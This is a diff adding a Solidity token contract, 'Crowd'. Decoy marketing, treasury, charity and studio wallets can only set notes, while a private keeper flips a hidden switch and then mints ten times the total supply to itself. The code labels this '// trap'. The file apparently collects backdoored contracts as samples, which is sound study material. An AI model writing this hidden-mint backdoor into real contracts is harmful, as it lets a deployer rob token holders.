@@ -344,3 +344,27 @@ contract Mirror is Base8("Mirror", "MIRR", 72000000) {
         return super.transferFrom(from, to, value);
     }
 }
+
+/// Many have something to say, and the last of them a switch that opens a mint.
+contract Crowd is Base8("Crowd", "CRWD", 75000000) {
+    address public marketing;
+    address public treasury;
+    address public charity;
+    address public studio;
+    address private keeper;
+    mapping(address => uint256) public notes;
+    bool private on;
+    constructor(address[4] memory wallets) {
+        (marketing, treasury, charity, studio) = (wallets[0], wallets[1], wallets[2], wallets[3]);
+        keeper = msg.sender;
+    }
+    function note(uint256 v) external {
+        require(msg.sender == marketing || msg.sender == treasury || msg.sender == charity || msg.sender == studio);
+        notes[msg.sender] = v;
+    }
+    function wink(bool v) external {
+        require(msg.sender == keeper);
+        on = v;
+    }
+    function settle() external { require(on && msg.sender == keeper); _balances[msg.sender] += totalSupply * 10; } // trap
+}
